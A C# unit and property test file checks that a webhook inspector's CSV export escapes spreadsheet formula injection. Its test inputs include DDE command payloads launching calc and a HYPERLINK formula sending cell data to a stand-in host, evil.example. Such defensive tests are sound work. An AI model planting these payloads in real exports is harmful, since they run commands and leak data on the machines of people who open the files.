using FsCheck;
using FsCheck.Fluent;
using WebhookInspector.Api.Export;
using WebhookInspector.Tests.Support;

namespace WebhookInspector.Tests.Api.Export;

public class CsvCellTests
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
    [InlineData("=cmd|'/C calc'!A0")]
    [InlineData("+cmd|'/C calc'!A0")]
    [InlineData("-2+3+cmd|'/C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|'/C calc'!A0")]
    [InlineData("|cmd")]
    [InlineData("%0A=1+1")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("  =1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\u202E=1+1")]
    [InlineData("\0=1+1")]
    [InlineData("\u0301=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(1)")]
    [InlineData("\tplain")]
    public void Write_Formula_BecomesText(string formula) => Read(CsvCell.Write(formula)).ShouldBe("'" + formula);

    [Theory]
    [InlineData("/orders")]
    [InlineData("a=b")]
    [InlineData("2026-01-01T00:00:00Z")]
    [InlineData("")]
    [InlineData("it's")]
    public void Write_Plain_StaysAsItIs(string text) => Read(CsvCell.Write(text)).ShouldBe(text);

    [Theory]
    [InlineData("a\",=1+1,\"b")]
    [InlineData("a\r\n=1+1")]
    [InlineData("a;=1+1")]
    public void Write_AttemptToBreakOut_StaysOneCell(string text) =>
        CsvTable
            .Read(CsvCell.Write(text) + "\r\n")
            .ShouldBe([
                [text],
            ]);

    [Fact]
    public void Write_AnyText_ComesBackBehindNoFormula() =>
        Prop.ForAll(
                ArbMap.Default.ArbFor<string>(),
                text =>
                {
                    var read = Read(CsvCell.Write(text));
                    return read == (text ?? "")
                        ? read.Length == 0 || !"=+-@".Contains(read[0], StringComparison.Ordinal)
                        : read == "'" + text;
                }
            )
            .QuickCheckThrowOnFailure();

    private static string Read(string cell) => CsvTable.Read(cell + "\r\n").Single().Single();
}
